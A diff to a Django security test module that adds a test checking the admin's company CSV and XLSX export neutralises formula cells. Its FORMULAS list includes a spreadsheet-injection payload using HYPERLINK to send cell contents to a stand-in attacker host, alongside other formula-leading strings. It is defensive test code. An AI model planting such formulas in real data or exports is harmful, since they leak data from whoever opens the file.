@@ -7,21 +7,28 @@ payload escaped, which proves a free-text field really was drawn there.
 CSV and XLSX exports neutralise formula cells: tests/surveys/test_export.py and tests/workforce (exports) cover them.
 """
 
+import csv
+import io
 import re
 from urllib.parse import quote
 
+import openpyxl
 import pytest
+from django.contrib.admin import site as admin_site
 from django.test import Client
 from django.urls import reverse
+from import_export.formats.base_formats import CSV, XLSX
 
-from companies.models import Contact
+from companies.admin import CompanyAdmin
+from companies.models import Company, Contact
 from reports.services.report import report_render_html
+from surveys.exports import FORMULA_STARTS
 from surveys.models import Answer
 
-from ..factories import UserFactory
+from ..factories import CompanyFactory, UserFactory
 from ..surveys.conftest import PAGE_1, PAGE_2, PAGE_3
 from .conftest import World, opened
-from .html import inline_parts, live_elements
+from .markup import inline_parts, live_elements
 
 MARKER = "data-xss"
 PAYLOADS = [
@@ -217,3 +224,37 @@ def test_payloads_in_every_free_text_field_render_inert(payload, world, clients)
     assert_inert(report, payload, "report HTML")
     # A fresh browser opening the link again sees the company's own (injected) name escaped, and nothing live.
     assert_inert(opened(world.token).get(reverse("surveys:start")).content.decode(), payload, "reopened start")
+
+
+# Formula cells in the admin's export -------------------------------------------------------------------------------
+# The survey and workforce exports are tested in tests/surveys/test_export.py and tests/workforce/test_views.py;
+# the company export of the admin (django-import-export) is tested here.
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
+
+
+def _export(client: Client, fmt: str) -> list[list]:
+    formats = CompanyAdmin(Company, admin_site).get_export_formats()
+    index = formats.index({"csv": CSV, "xlsx": XLSX}[fmt])
+    fields = {f"companyresource_{name}": "on" for name in ("name", "business_id", "kind", "website")}
+    reply = client.post(reverse("admin:companies_company_export"), {"format": index, "resource": 0, **fields})
+    assert reply.status_code == 200, reply.content.decode()[:500]
+    if fmt == "csv":
+        return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(reply.content)).active
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_admin_company_export_neutralises_formula_cells(fmt, client):
+    for formula in FORMULAS:
+        CompanyFactory(name=formula)
+    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
+    rows = _export(client, fmt)
+    # (a spreadsheet file reads a carriage return back as a line feed)
+    names = [row[0].replace("\r", "\n") for row in rows[1:]]
+    assert sorted(names) == sorted(("'" + formula).replace("\r", "\n") for formula in FORMULAS)
+    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert Company.objects.filter(name=FORMULAS[0]).exists()  # the registry itself keeps the name as typed
